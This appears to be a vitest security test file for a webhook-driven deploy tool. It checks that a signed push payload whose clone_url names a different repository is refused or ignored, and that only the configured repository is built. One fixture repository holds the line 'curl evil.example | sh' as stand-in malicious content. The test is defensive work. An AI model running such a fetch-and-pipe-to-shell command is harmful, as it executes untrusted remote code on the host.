import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GitHost } from '../../src/core/push-event.js';
import { until } from '../helpers/run-watch.js';
import { SECRETS, startTestSlipway, type TestSlipway } from '../helpers/test-slipway.js';
import { deliveryHeaders, pushPayload } from '../helpers/webhook-deliveries.js';

// Issue 14, point 2: a correctly signed webhook that matches a configured service by owner/name (or by one of
// its URLs) but whose clone_url points at another repository with other code. slipway builds what its config
// names, or refuses; it never clones the payload's repository.

let dir: string;
let good: string; // the repository config names
let evil: string; // another repository, same owner/name at the end of its path, other code
let goodSha: string;
let evilSha: string;
let slipway: TestSlipway;

function repoWith(path: string, content: string): string {
  const work = `${path}-work`;
  const git = (...args: string[]) => execFileSync('git', args, { cwd: work, encoding: 'utf8' }).trim();
  execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', path]);
  execFileSync('git', ['init', '--quiet', '--initial-branch=main', work]);
  execFileSync('sh', ['-c', `echo '${content}' > code.sh`], { cwd: work });
  git('add', '-A');
  git('-c', 'user.name=T', '-c', 'user.email=t@example.com', 'commit', '--quiet', '-m', content);
  git('push', '--quiet', path, 'main');
  return git('rev-parse', 'HEAD');
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'sec-git-source-'));
  good = join(dir, 'good.git');
  evil = join(dir, 'evil', 'acme', 'sample.git');
  await mkdir(join(dir, 'evil', 'acme'), { recursive: true });
  goodSha = repoWith(good, 'the reviewed code');
  evilSha = repoWith(evil, 'curl evil.example | sh');
  slipway = await startTestSlipway({
    mode: 'all',
    config: `
services:
  mirror:
    repo: acme/sample
    cloneUrl: file://${good}
    image: 127.0.0.1:5000/sec-git-mirror
    channel: "#deploys"
    network: host
    environments: [{ name: staging, port: 21010 }]
  byurl:
    repo: https://git.example.com/acme/byurl.git
    cloneUrl: file://${good}
    image: 127.0.0.1:5000/sec-git-byurl
    channel: "#deploys"
    network: host
    environments: [{ name: staging, port: 21011 }]
  gh:
    repo: acme/gh
    image: 127.0.0.1:5000/sec-git-gh
    channel: "#deploys"
    network: host
    environments: [{ name: staging, port: 21012 }]
  local:
    repo: file://${good}
    image: 127.0.0.1:5000/sec-git-local
    channel: "#deploys"
    network: host
    environments: [{ name: staging, port: 21013 }]
`,
  });
}, 120_000);

afterAll(async () => {
  await slipway?.stop();
  await rm(dir, { recursive: true, force: true });
});

async function deliver(host: GitHost, payload: Record<string, any>) {
  const body = JSON.stringify(payload);
  const secret = host === 'github' ? SECRETS.GITHUB_WEBHOOK_SECRET : SECRETS.GOGS_WEBHOOK_SECRET;
  const res = await fetch(`${slipway.url}/webhooks/${host}`, { method: 'POST', body, headers: deliveryHeaders(host, body, secret) });
  return { status: res.status, body: (await res.json()) as { status?: string; reason?: string; runId?: string } };
}

describe('the payload does not decide what is built', { timeout: 180_000 }, () => {
  it('clones the configured repository, not the payload clone_url, when owner/name matches (a mirror)', async () => {
    // Every URL of this payload points at the other repository; only its owner/name is the service's.
    const payload = pushPayload('gogs', { repoUrl: `file://${evil}`, after: evilSha });
    expect(payload.repository.full_name).toBe('acme/sample');
    const answer = await deliver('gogs', payload);
    expect(answer.status).toBe(202);
    const runId = answer.body.runId ?? '';
    const run = await until(async () => {
      const r = await slipway.runs.get(runId);
      return r?.status === 'failed' ? r : undefined;
    }, `run ${runId} to fail at checkout`);
    expect(run.cloneUrl).toBe(`file://${good}`);
    // The commit exists only in the payload's repository: a checkout from config cannot find it.
    expect(run.failure?.stage).toBe('checkout');
    expect(run.failure?.cause).toMatch(/not our ref|not a tree|did not match|unadvertised|unknown revision|upload-pack/i);
    expect(execFileSync('git', ['cat-file', '-t', evilSha], { cwd: evil, encoding: 'utf8' }).trim()).toBe('commit');
  });

  it('refuses a payload that matches by one URL but whose clone_url is elsewhere, naming both', async () => {
    const payload = pushPayload('gogs', { repoUrl: `file://${evil}`, after: goodSha });
    Object.assign(payload.repository, { full_name: 'acme/byurl', html_url: 'https://git.example.com/acme/byurl' });
    const answer = await deliver('gogs', payload);
    expect(answer.status).toBe(422);
    expect(answer.body.reason).toContain(`clone URL is file://${evil}`);
    expect(answer.body.reason).toContain('byurl is built from https://git.example.com/acme/byurl.git');
  });

  it('refuses a GitHub push for owner/name whose clone_url is not on github.com', async () => {
    const payload = pushPayload('github', { repoUrl: `file://${evil}`, after: goodSha });
    Object.assign(payload.repository, { full_name: 'acme/gh' });
    const answer = await deliver('github', payload);
    expect(answer.status).toBe(422);
    expect(answer.body.reason).toMatch(/clone URL is file:\/\/.*but gh is built from https:\/\/github.com\/acme\/gh/);
  });

  it('refuses a push for a configured URL from a payload whose clone_url is another repository', async () => {
    const payload = pushPayload('gogs', { repoUrl: `file://${evil}`, after: evilSha });
    Object.assign(payload.repository, { full_name: 'acme/other', html_url: `file://${good}` });
    const answer = await deliver('gogs', payload);
    expect(answer.status).toBe(422);
    expect(answer.body.reason).toContain(`local is built from file://${good}`);
    expect(await slipway.runs.listByService('local', 100)).toEqual([]);
  });

  it('refuses a push for owner/name on a host whose base URL slipway does not know, saying what to set', async () => {
    const payload = pushPayload('gogs', { repoUrl: 'https://gitea.example.com/acme/gh.git', after: goodSha });
    const answer = await deliver('gogs', payload);
    expect(answer).toMatchObject({ status: 422, body: { reason: expect.stringMatching(/set cloneUrl for service gh/) } });
  });
});
